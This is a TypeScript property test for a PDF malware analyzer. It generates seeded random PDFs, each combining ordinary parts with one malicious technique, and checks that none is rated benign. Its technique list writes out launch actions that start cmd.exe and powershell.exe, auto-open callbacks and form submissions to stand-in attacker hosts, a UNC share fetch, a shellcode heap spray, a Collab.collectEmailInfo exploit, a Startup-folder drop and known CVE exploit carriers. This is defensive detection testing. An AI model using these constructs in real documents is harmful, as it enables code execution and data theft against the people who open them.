// Property (issue 18): a document with a /Launch, an automatic callback, a dropped program or a proven exploit never comes
// out benign, whatever benign structure surrounds it. Documents are generated from a seeded PRNG: a mix
// of ordinary parts (pages of text, images, links to websites, outlines, a form with formatting scripts,
// notes, metadata, an XML attachment, cross-reference streams, an incremental update) plus exactly one
// technique through one of its carriers. The model may say anything about the structure; the floor of
// the technique must hold. Each case prints its seed, so a failure replays.
import { describe, expect, it } from "vitest";
import { analyzeFast } from "../analyze";
import { mulberry32 } from "../model/folds";
import { between, pick, type Rand } from "./testing/seeded-choice";
import { PdfBuilder, appendUpdate, hexString } from "../../pdf/testing/pdf-builder";
import { CVE_2009_0658, exploitBmp } from "../embedded/testing/exploit-fixtures";
import {
  DOT_RANGE_OVERFLOW,
  PLAIN_TIFF_TAGS,
  sfntFont,
  tiff,
  xfaImageXml,
} from "../facts/formats/testing/format-fixtures";
import { SHELLCODE, SLED } from "../javascript/testing/script-fixtures";

/** What one generated document is made of: catalog entries, first-page entries, annotations, setup. */
interface Parts {
  catalog: string[];
  page: string[];
  annots: string[];
  /** objects added before the catalog (images, fonts, fields...); may push to the other lists */
  setup: ((b: PdfBuilder, p: Parts) => void)[];
  xfa?: string;
}

const WORDS = [
  "quarterly",
  "report",
  "invoice",
  "board",
  "minutes",
  "revenue",
  "audit",
  "customer",
  "delivery",
  "schedule",
  "policy",
  "summary",
];

/** Ordinary parts, each added or not at random. */
const BENIGN_PARTS: readonly ((r: Rand, p: Parts) => void)[] = [
  (r, p) =>
    p.setup.push((b) => {
      const img = b.addStream(
        `/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode`,
        Uint8Array.from({ length: between(r, 200, 2000) }, () => Math.floor(r() * 256)),
      );
      p.page.push(`/Resources << /XObject << /Im1 ${img} 0 R >> >>`);
    }),
  (r, p) =>
    p.annots.push(
      `<< /Type /Annot /Subtype /Link /Rect [72 ${between(r, 100, 600)} 300 ${between(r, 610, 700)}] /Border [0 0 0] /A << /S /URI /URI (https://www.${pick(r, ["example.com", "example.org", "example.net"])}/${pick(r, WORDS)}) >> >>`,
    ),
  (r, p) =>
    p.setup.push((b) => {
      const item = b.add(`<< /Title (${pick(r, WORDS)}) /Dest [0 /Fit] >>`);
      p.catalog.push(`/Outlines << /Type /Outlines /First ${item} 0 R /Last ${item} 0 R /Count 1 >>`);
    }),
  (r, p) =>
    p.setup.push((b) => {
      const field = b.add(
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect [72 400 200 420] /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, "", true\\);) >> /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0, 0, 0, "", true\\);) >> >> >>`,
      );
      p.catalog.push(`/AcroForm << /Fields [${field} 0 R] >>`);
      p.annots.push(`${field} 0 R`);
    }),
  (r, p) =>
    p.setup.push((b) => {
      const xml = b.addFlateStream(
        "/Type /EmbeddedFile /Subtype /text#2Fxml",
        `<?xml version="1.0"?><Invoice><ID>${between(r, 1000, 9999)}</ID></Invoice>`,
      );
      const spec = b.add(
        `<< /Type /Filespec /F (factur-x.xml) /UF (factur-x.xml) /AFRelationship /Alternative /EF << /F ${xml} 0 R >> >>`,
      );
      p.catalog.push(`/Names << /EmbeddedFiles << /Names [(factur-x.xml) ${spec} 0 R] >> >>`);
    }),
  (r, p) =>
    p.annots.push(
      `<< /Type /Annot /Subtype /Text /Rect [500 700 520 720] /Contents (${pick(r, WORDS)} ${pick(r, WORDS)}) >>`,
    ),
  (r, p) => p.catalog.push(`/PageLabels << /Nums [0 << /S /D >>] >> /ViewerPreferences << /DisplayDocTitle true >>`),
];

/** One technique through one carrier: every one of them has a floor (launch, automatic callback, proven exploit). */
const TECHNIQUES: readonly [name: string, (r: Rand, p: Parts) => void][] = [
  [
    "launch on open",
    (r, p) =>
      p.catalog.push(
        `/OpenAction << /S /Launch /F (${pick(r, ["Invoice.docm", "update.zip", "notes.txt", "report.html"])}) >>`,
      ),
  ],
  [
    "launch of a command from a link",
    (r, p) =>
      p.annots.push(
        `<< /Type /Annot /Subtype /Link /Rect [72 72 200 90] /A << /S /Launch /Win << /F (${pick(r, ["cmd.exe", "powershell.exe", "mshta.exe", "wscript.exe"])}) /P (/c calc) >> >> >>`,
      ),
  ],
  ["launch on page open", (_r, p) => p.page.push(`/AA << /O << /S /Launch /F (payload.exe) >> >>`)],
  [
    "URI on open",
    (r, p) =>
      p.catalog.push(
        `/OpenAction << /S /URI /URI (https://${pick(r, ["t.example.top", "198.51.100.7", "cdn.example.xyz"])}/p?id=${between(r, 1, 9999)}) >>`,
      ),
  ],
  [
    "form submitted on open",
    (_r, p) =>
      p.catalog.push(`/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/c) >> /Flags 4 >>`),
  ],
  [
    "remote document opened on page open",
    (_r, p) =>
      p.page.push(
        `/AA << /O << /S /GoToR /F << /FS /URL /F (https://files.example.net/stage2.pdf) >> /D [0 /Fit] >> >>`,
      ),
  ],
  [
    "URI when an annotation becomes visible",
    (_r, p) =>
      p.annots.push(
        `<< /Type /Annot /Subtype /Square /Rect [0 0 5 5] /AA << /PV << /S /URI /URI (http://203.0.113.5/pixel) >> >> >>`,
      ),
  ],
  [
    "UNC path opened on page open",
    (_r, p) => p.page.push(`/AA << /O << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>`),
  ],
  [
    "shellcode spray on open",
    (_r, p) =>
      p.catalog.push(
        `/OpenAction << /S /JavaScript /JS ${hexString(`var sc = unescape("${SLED}${SHELLCODE}"); var s = unescape("%u0c0c%u0c0c"); while (s.length < 0x100000) s += s;`)} >>`,
      ),
  ],
  [
    "Collab.collectEmailInfo exploit",
    (_r, p) =>
      p.catalog.push(
        `/OpenAction << /S /JavaScript /JS ${hexString('var m = unescape("%u0c0c"); while (m.length < 0x4000) m += m; Collab.collectEmailInfo({subj: "", msg: m});')} >>`,
      ),
  ],
  [
    "script writes a program into the Startup folder",
    (r, p) =>
      p.catalog.push(
        `/OpenAction << /S /JavaScript /JS ${hexString(`this.${pick(r, ["saveAs", "exportXFAData"])}({ cPath: "/C/Users/Public/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/${pick(r, ["update.hta", "sync.js", "notes.txt"])}", bXDP: false });`)} >>`,
      ),
  ],
  [
    "CoolType SING overflow",
    (_r, p) =>
      p.setup.push((b) => {
        const file = b.addStream("", sfntFont("SING", "A".repeat(28)));
        const fd = b.add(
          `<< /Type /FontDescriptor /FontName /X /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 ${file} 0 R >>`,
        );
        p.page.push(
          `/Resources << /Font << /F9 ${b.add(`<< /Type /Font /Subtype /TrueType /BaseFont /X /FontDescriptor ${fd} 0 R >>`)} 0 R >> >>`,
        );
      }),
  ],
  [
    "JBIG2 CVE-2009-0658 segment",
    (_r, p) =>
      p.setup.push(
        (b) =>
          void b.addStream(
            "/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode",
            CVE_2009_0658,
          ),
      ),
  ],
  [
    "XFA TIFF CVE-2010-0188",
    (_r, p) => void (p.xfa = xfaImageXml(tiff([...PLAIN_TIFF_TAGS, DOT_RANGE_OVERFLOW], { sled: 256 }))),
  ],
  [
    "XFA BMP RLE CVE-2013-2729",
    (_r, p) =>
      void (p.xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field name="i"><value><image contentType="image/bmp">${Buffer.from(exploitBmp()).toString("base64")}</image></value></field></subform></template></xdp:xdp>`),
  ],
];

function generate(seed: number): { pdf: Uint8Array; technique: string } {
  const r = mulberry32(seed);
  const p: Parts = { catalog: [], page: [], annots: [], setup: [] };
  for (const part of BENIGN_PARTS) if (r() < 0.5) part(r, p);
  const [technique, inject] = pick(r, TECHNIQUES);
  inject(r, p);
  const b = new PdfBuilder();
  for (const s of p.setup) s(b, p);
  if (p.xfa) {
    const xfa = b.addStream("", p.xfa);
    const at = p.catalog.findIndex((c) => c.startsWith("/AcroForm"));
    if (at >= 0) p.catalog[at] = p.catalog[at].replace(/>>$/, `/XFA ${xfa} 0 R >>`);
    else p.catalog.push(`/AcroForm << /Fields [] /XFA ${xfa} 0 R >>`);
  }
  const font = b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
  const lines = Array.from(
    { length: between(r, 1, 30) },
    (_, i) => `BT /F1 11 Tf 72 ${740 - i * 14} Td (${Array.from({ length: 8 }, () => pick(r, WORDS)).join(" ")}) Tj ET`,
  ).join("\n");
  const content = r() < 0.5 ? b.addFlateStream("", lines) : b.addStream("", lines);
  const annots = p.annots.map((a) => (a.endsWith(" R") ? a : `${b.add(a)} 0 R`));
  const resources = p.page.find((x) => x.startsWith("/Resources")) ?? "";
  const fontRes = `/Font << /F1 ${font} 0 R >>`;
  const pageEntries = [
    resources ? resources.replace("/Resources <<", `/Resources << ${fontRes}`) : `/Resources << ${fontRes} >>`,
    ...p.page.filter((x) => !x.startsWith("/Resources")),
    `/Contents ${content} 0 R`,
    annots.length ? `/Annots [${annots.join(" ")}]` : "",
  ];
  b.addCatalog(p.catalog.join(" "), between(r, 1, 12), pageEntries.join(" "));
  b.info = b.add(
    `<< /Title (${pick(r, WORDS)}) /Producer (${pick(r, ["Microsoft Word", "LibreOffice 7.5", "pdfTeX-1.40", "Skia/PDF"])}) >>`,
  );
  let pdf = b.build({ xref: r() < 0.3 ? "stream" : "table" });
  // an incremental update that only touches the metadata
  if (r() < 0.3) pdf = appendUpdate(pdf, [{ num: 9000, body: `<< /ModDate (D:2024${between(r, 10, 12)}01) >>` }]);
  return { pdf, technique };
}

const CASES = 160;

describe("a document with a launch, an automatic callback or a proven exploit is never benign", () => {
  it.each(Array.from({ length: CASES }, (_, i) => [1000 + i]))("generated document, seed %i", (seed) => {
    const { pdf, technique } = generate(seed);
    const r = analyzeFast(pdf, { fileName: `generated-${seed}.pdf` });
    expect(
      r.summary.verdict,
      `${technique}: ${JSON.stringify(r.summary)} ${r.findings.map((f) => f.ruleId).join(",")}`,
    ).not.toBe("benign");
    expect(r.summary.score).toBeGreaterThanOrEqual(40);
    expect(r.summary.evidenceFloor).toBeDefined();
  });

  it("draws every technique, and benign parts in most documents", () => {
    const seen = new Set(Array.from({ length: CASES }, (_, i) => generate(1000 + i).technique));
    expect([...seen].sort()).toEqual(TECHNIQUES.map(([n]) => n).sort());
  });
});
